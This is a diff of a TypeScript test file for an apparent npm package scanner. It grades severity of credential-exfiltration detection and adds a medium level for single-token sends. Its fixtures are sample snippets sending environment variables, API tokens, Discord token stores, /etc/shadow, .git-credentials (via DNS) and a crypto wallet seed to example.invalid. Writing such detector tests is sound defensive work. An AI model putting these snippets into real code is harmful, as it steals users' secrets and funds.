@@ -51,23 +51,25 @@ describe('code analysis: execution context', () => {
 });
 
 describe('code analysis: network through any binding (kind 2) and secrets (kind 3)', () => {
-  const cases: [string, string][] = [
+  // [name, code, base severity]: secret files or the whole environment sent are high on require; one token
+  // variable sent is medium (every API client sends its own credential), one step worse at install.
+  const cases: [string, string, ('high' | 'medium')?][] = [
     ['a one-letter module variable', "const h = require('https');\nconst r = h.request({ host: 'example.invalid', method: 'POST' });\nr.end(JSON.stringify(process.env));\n"],
-    ['inline require().get', "require('https').get('https://example.invalid/?t=' + process.env.NPM_TOKEN);\n"],
-    ['a destructured get', "const { get } = require('node:https');\nget('https://example.invalid/?t=' + process.env.GITHUB_TOKEN);\n"],
-    ['a computed member', "const h = require('http');\nh['get']('http://example.invalid/?t=' + process.env.GITLAB_TOKEN);\n"],
-    ['dynamic import()', "export async function f() { const { request } = await import('node:https'); request('https://example.invalid/').end(process.env.AWS_SECRET_ACCESS_KEY); }\n"],
+    ['inline require().get', "require('https').get('https://example.invalid/?t=' + process.env.NPM_TOKEN);\n", 'medium'],
+    ['a destructured get', "const { get } = require('node:https');\nget('https://example.invalid/?t=' + process.env.GITHUB_TOKEN);\n", 'medium'],
+    ['a computed member', "const h = require('http');\nh['get']('http://example.invalid/?t=' + process.env.GITLAB_TOKEN);\n", 'medium'],
+    ['dynamic import()', "export async function f() { const { request } = await import('node:https'); request('https://example.invalid/').end(process.env.AWS_SECRET_ACCESS_KEY); }\n", 'medium'],
     ['fetch', "fetch('https://example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });\n"],
-    ['a third-party client posting to a webhook', "const axios = require('axios');\naxios.post('https://example.invalid/api/webhooks/1/x', { content: process.env.NPM_TOKEN });\n"],
+    ['a third-party client posting to a webhook', "const axios = require('axios');\naxios.post('https://example.invalid/api/webhooks/1/x', { content: process.env.NPM_TOKEN });\n", 'medium'],
     ['browser token stores read and sent', "const fs = require('fs');\nconst db = fs.readFileSync(process.env.APPDATA + '/discord/Local Storage/leveldb/000005.ldb');\nfetch('https://example.invalid/', { method: 'POST', body: db });\n"],
     ['/etc/shadow read in a callback and posted', "const fs = require('fs');\nlet d = '';\nfs.readFile('/etc/shadow', 'utf8', (e, data) => { d = data; });\nrequire('axios').post('https://example.invalid/', d);\n"],
     ['.git-credentials sent over DNS', "const fs = require('fs'), dns = require('dns');\nconst c = fs.readFileSync(require('os').homedir() + '/.git-credentials', 'hex');\ndns.resolve(c.slice(0, 60) + '.example.invalid', () => {});\n"],
     ['a wallet file sent', "const w = require('fs').readFileSync('/home/u/.config/Exodus/exodus.wallet/seed.seco');\nrequire('https').request({ host: 'example.invalid' }).write(w);\n"],
   ];
-  for (const [name, code] of cases) {
-    it(`${name}: high on require, critical at install`, async () => {
-      expect(worst(await onRequire(code), 'code-exfiltration')).toBe('high');
-      expect(worst(await atInstall(code), 'code-exfiltration')).toBe('critical');
+  for (const [name, code, base = 'high'] of cases) {
+    it(`${name}: ${base} on require, one step worse at install`, async () => {
+      expect(worst(await onRequire(code), 'code-exfiltration')).toBe(base);
+      expect(worst(await atInstall(code), 'code-exfiltration')).toBe(base === 'high' ? 'critical' : 'high');
     });
   }
 });
